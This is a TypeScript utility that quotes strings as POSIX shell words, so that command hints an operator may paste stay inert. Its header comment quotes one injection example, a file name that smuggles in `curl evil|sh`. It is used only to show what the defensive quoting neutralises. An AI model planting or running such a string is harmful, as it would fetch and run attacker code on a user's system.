// Quoting for text an operator may paste into a POSIX shell (403 hints, the demo's transcript).
// One safe set for every caller: a word made only of these characters means the same quoted or
// not; anything else (spaces, ';', '$(...)', '~', '*', quotes, non-ASCII, the empty string) is
// single-quoted, with each ' written as '\''. A workload picks its own file names, so this is
// what keeps `/tmp/x;curl evil|sh` one inert word in a hint.
const SAFE = /^[A-Za-z0-9_./+:@,=-]+$/;

/** One shell word. */
export function shellWord(s: string): string {
  return SAFE.test(s) ? s : `'${s.replaceAll("'", `'\\''`)}'`;
}

/** A command line: each argument one shell word. */
export function shellWords(argv: readonly string[]): string {
  return argv.map(shellWord).join(' ');
}
